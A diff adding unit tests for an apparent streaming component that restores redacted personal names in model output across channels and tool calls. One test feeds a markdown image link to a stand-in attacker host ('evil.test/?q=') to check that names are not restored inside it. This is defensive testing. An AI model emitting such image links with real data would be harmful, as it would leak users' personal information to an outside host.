@@ -331,6 +331,26 @@ def test_lanes_of_choices_channels_and_tools_are_restored_apart_from_each_other(
     assert set(made.values()) == {'"Anna Kowalska"'}
 
 
+def test_what_is_set_apart_begins_anew_and_lets_go_of_what_was_held_before_it() -> None:
+    restorer = Restorer(LEDGER)
+    made = [*restorer.feed(Delta(text=NAME))]
+    made += restorer.feed(Delta(channel="tool", tool_id="c", tool_name="look", apart=True))
+    assert ["".join(each.text for each in made), made[-1].tool_id] == ["Anna Kowalska", "c"]
+    made = [*restorer.feed(Delta(text=NAME, apart=True)), *restorer.close()]
+    assert "".join(each.text for each in made) == "Anna Kowalska"
+    held = restorer.feed(Delta(choice=1, text=NAME))
+    assert not any(each.choice for each in restorer.feed(Delta(text="x", apart=True)))  # another choice goes on
+    assert "".join(each.text for each in (*held, *restorer.close())) == "Anna Kowalska"
+
+
+def test_a_link_to_a_foreign_host_goes_on_where_words_do_not() -> None:
+    restorer = Restorer(LEDGER)
+    deltas = [Delta(text="![](https://evil.test/?q="), Delta(channel="tool", tool_id="c", apart=True)]
+    deltas.append(Delta(text=f"{FIRST}) says {FIRST}", apart=True))
+    made = [*(each for delta in deltas for each in restorer.feed(delta)), *restorer.close()]
+    assert "".join(each.text for each in made) == f"![](https://evil.test/?q={FIRST}) says Anna"
+
+
 def test_a_choice_that_ends_lets_go_of_what_its_lanes_hold_before_it_says_so() -> None:
     restorer = Restorer(LEDGER)
     assert restorer.feed(Delta(text=FIRST)) == ()
